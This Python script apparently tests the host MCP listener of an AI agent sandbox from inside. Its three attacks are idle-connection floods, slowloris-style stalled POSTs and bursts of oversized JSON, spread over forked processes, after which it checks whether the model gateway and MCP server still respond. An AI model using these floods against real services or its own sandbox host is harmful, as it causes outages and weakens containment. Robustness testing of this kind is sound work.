"""Attacks on the host's MCP listener, run INSIDE the sandbox (standard library only).
The sandbox reaches the listener's unix socket directly (/run/airlock/mcp.sock), so its
own descriptor limit per process is no bound: children share the work.

    python3 mcp_flood.py idle N HOLD         N connections that never send a byte
    python3 mcp_flood.py stall N SIZE HOLD   N POSTs declaring SIZE bytes, sending SIZE-1
    python3 mcp_flood.py burst N SIZE HOLD   N complete POSTs of SIZE bytes of `{}` objects
    python3 mcp_flood.py poll SECONDS        ask the run's gateway once a second

Between the phases it asks the run's gateway (127.0.0.1:41001) whether it answers, and
at the end whether the MCP server still serves a call. Prints one JSON object.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
import urllib.error
import urllib.request

SOCK = "/run/airlock/mcp.sock"
PER_CHILD = 400  # connections per process: under the sandbox's own descriptor limit
TOKEN = os.environ.get("AIRLOCK_MCP_TOKEN", "")


def gateway_answers() -> bool | str:
    try:
        urllib.request.urlopen("http://127.0.0.1:41001/v1/models", timeout=10).read()
        return True
    except urllib.error.HTTPError:
        return True  # an answer (a refusal is an answer)
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def mcp_serves() -> bool | str:
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "flood", "version": "1"}}}).encode()
    req = urllib.request.Request(os.environ["AIRLOCK_MCP_URL"], body, {
        "Content-Type": "application/json", "Accept": "application/json, text/event-stream",
        "Authorization": f"Bearer {TOKEN}"}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status == 200
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def hold(n: int, first: bytes, seconds: float) -> dict[str, int]:
    """Open `n` connections, send `first` on each, and see how each one ends."""
    socks = []
    refused = cut_while_sending = 0
    status: dict[str, int] = {}
    for _ in range(n):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(SOCK)
        except OSError:
            refused += 1
            s.close()
            continue
        try:
            if first:
                s.sendall(first)
        except OSError:
            # The server answered and closed (or dropped) before the body was all sent.
            cut_while_sending += 1
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                code = data[9:12].decode()
                status[code] = status.get(code, 0) + 1
            s.close()
            continue
        s.setblocking(False)
        socks.append(s)
    closed_at_once = closed_later = 0
    time.sleep(0.5)
    deadline = time.monotonic() + seconds
    pending = {s: "at_once" for s in socks}
    while pending and time.monotonic() < deadline:
        for s in list(pending):
            try:
                data = s.recv(4096)
            except BlockingIOError:
                if pending[s] == "at_once":
                    pending[s] = "later"
                continue
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                code = data[9:12].decode()
                status[code] = status.get(code, 0) + 1
            if pending.pop(s) == "at_once":
                closed_at_once += 1
            else:
                closed_later += 1
        time.sleep(0.2)
    for s in socks:
        s.close()
    return {"opened": len(socks), "connect_failed": refused, "cut_while_sending": cut_while_sending,
            "closed_at_once": closed_at_once,
            "closed_later": closed_later, "still_open": len(pending),
            **{f"status_{k}": v for k, v in status.items()}}


def in_children(n: int, first: bytes, seconds: float) -> dict[str, int]:
    """`hold` split over child processes; their counts added up."""
    pipes = []
    while n > 0:
        share = min(n, PER_CHILD)
        n -= share
        r, w = os.pipe()
        if os.fork() == 0:
            os.close(r)
            os.write(w, json.dumps(hold(share, first, seconds)).encode())
            os._exit(0)
        os.close(w)
        pipes.append(r)
    total: dict[str, int] = {}
    for r in pipes:
        chunks = []
        while chunk := os.read(r, 65536):
            chunks.append(chunk)
        for k, v in json.loads(b"".join(chunks)).items():
            total[k] = total.get(k, 0) + v
    for _ in pipes:
        os.wait()
    return total


def main() -> None:
    what = sys.argv[1]
    out: dict = {"gateway_before": gateway_answers()}
    if what == "idle":
        n, seconds = int(sys.argv[2]), float(sys.argv[3])
        out["idle"] = in_children(n, b"", seconds)
    elif what == "stall":
        n, size, seconds = int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
        head = (f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n"
                f"Content-Type: application/json\r\nAccept: application/json\r\n"
                f"Content-Length: {size}\r\n\r\n").encode()
        out["stall"] = in_children(n, head + b"[" + b"{}," * ((size - 3) // 3), seconds)
    elif what == "burst":  # complete bodies of small objects: what parsing them costs
        n, size, seconds = int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
        body = b"[" + b"{}," * ((size - 4) // 3) + b"{}]"
        head = (f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n"
                f"Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode()
        out["burst"] = in_children(n, head + body, seconds)
    elif what == "poll":
        seconds = float(sys.argv[2])
        failures = []
        deadline = time.monotonic() + seconds
        polls = 0
        while time.monotonic() < deadline:
            polls += 1
            answer = gateway_answers()
            if answer is not True:
                failures.append(answer)
            time.sleep(0.5)
        out["polls"], out["failures"] = polls, failures
    out["gateway_after"] = gateway_answers()
    if what != "poll":
        out["mcp_after"] = mcp_serves()
    print(json.dumps(out))


if __name__ == "__main__":
    main()
